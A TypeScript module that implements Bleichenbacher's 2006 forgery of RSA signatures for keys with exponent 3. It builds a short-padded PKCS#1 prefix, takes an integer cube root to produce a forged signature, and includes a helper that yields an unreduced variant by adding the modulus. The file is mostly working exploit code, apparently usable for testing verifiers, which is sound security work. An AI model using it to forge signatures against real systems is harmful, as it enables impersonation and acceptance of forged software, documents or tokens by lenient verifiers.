import { hash } from 'node:crypto';
import type { KeyObject } from 'node:crypto';

/** DER of SHA-256's DigestInfo, without the digest (RFC 8017 section 9.2, note 1). */
const DIGEST_INFO = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/** What a lenient verifier reads of a signature: eight octets of padding, and the digest at the wrong end. */
export function lenientPrefix(message: Uint8Array): Buffer {
  const padding = Buffer.from([0, 1, ...Array<number>(8).fill(0xff), 0]);
  return Buffer.concat([padding, DIGEST_INFO, hash('sha256', message, 'buffer')]);
}

/**
 * Forges a signature for a key of exponent 3 without its private half (Bleichenbacher, 2006): a number whose cube begins
 * with the prefix. It deceives only those who do not look at what is behind the digest.
 *
 * @param octets the length of the modulus
 */
export function forgeWithExponent3(message: Uint8Array, octets = 256): Buffer {
  const prefix = lenientPrefix(message);
  const target = toNumber(prefix) << BigInt((octets - prefix.length) * 8);
  return fromNumber(cubeRoot(target) + 1n, octets);
}

/** The same number modulo the modulus in another form; null where it does not fit into as many octets. */
export function addModulus(signature: Uint8Array, key: KeyObject): Buffer | null {
  const { n = '' } = key.export({ format: 'jwk' });
  const sum = toNumber(signature) + toNumber(Buffer.from(n, 'base64url'));
  return sum < 1n << BigInt(signature.length * 8) ? fromNumber(sum, signature.length) : null;
}

function toNumber(octets: Uint8Array): bigint {
  return BigInt(`0x${Buffer.from(octets).toString('hex')}`);
}

function fromNumber(value: bigint, octets: number): Buffer {
  return Buffer.from(value.toString(16).padStart(octets * 2, '0'), 'hex');
}

/** Rounded down. */
function cubeRoot(value: bigint): bigint {
  let low = 0n;
  let high = 1n << BigInt(Math.ceil(value.toString(2).length / 3) + 1);
  while (high - low > 1n) {
    const middle = (low + high) >> 1n;
    if (middle ** 3n <= value) low = middle;
    else high = middle;
  }
  return low;
}
